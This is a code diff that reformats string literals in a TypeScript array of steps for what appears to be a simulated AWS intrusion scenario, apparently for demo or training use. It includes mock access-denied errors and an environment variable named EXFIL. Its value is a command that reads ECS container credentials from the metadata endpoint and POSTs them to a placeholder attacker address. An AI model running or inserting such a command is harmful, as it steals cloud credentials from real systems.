@@ -86,7 +86,9 @@ const STEPS: readonly Step[] = [
       response: null,
       error: {
         code: 'AccessDeniedException',
-        message: `User: ${arn} is not authorized to perform: secretsmanager:ListSecrets because no identity-based policy allows the secretsmanager:ListSecrets action`,
+        message:
+          `User: ${arn} is not authorized to perform: secretsmanager:ListSecrets ` +
+          'because no identity-based policy allows the secretsmanager:ListSecrets action',
       },
     }),
   },
@@ -101,7 +103,9 @@ const STEPS: readonly Step[] = [
       response: null,
       error: {
         code: 'AccessDeniedException',
-        message: `User: ${arn} is not authorized to perform: ssm:DescribeParameters on resource: arn:aws:ssm:us-east-1:${a.id}:*`,
+        message:
+          `User: ${arn} is not authorized to perform: ssm:DescribeParameters ` +
+          `on resource: arn:aws:ssm:us-east-1:${a.id}:*`,
       },
     }),
   },
@@ -149,7 +153,9 @@ const STEPS: readonly Step[] = [
             environment: [
               {
                 name: 'EXFIL',
-                value: `curl -s 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | curl -X POST -d @- http://${STORY.attackerIp}:8080/c`,
+                value:
+                  'curl -s 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | ' +
+                  `curl -X POST -d @- http://${STORY.attackerIp}:8080/c`,
               },
             ],
           },
